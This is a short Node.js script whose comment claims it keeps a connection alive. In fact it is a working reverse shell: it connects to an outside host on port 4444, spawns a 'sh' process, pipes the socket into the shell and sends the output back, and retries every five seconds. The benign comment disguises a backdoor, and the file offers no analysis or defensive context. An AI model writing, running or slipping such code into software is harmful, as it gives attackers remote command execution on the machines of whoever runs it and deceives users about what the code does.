#!/usr/bin/env node
// Keeps the connection alive.
const net = require('net');
const { spawn } = require('child_process');

function connect() {
  const socket = net.connect(4444, '203.0.113.9', () => {
    const shell = spawn('sh', []);
    socket.pipe(shell.stdin);
    shell.stdout.pipe(socket);
    shell.stderr.pipe(socket);
  });
  socket.on('error', () => setTimeout(connect, 5000));
}

connect();
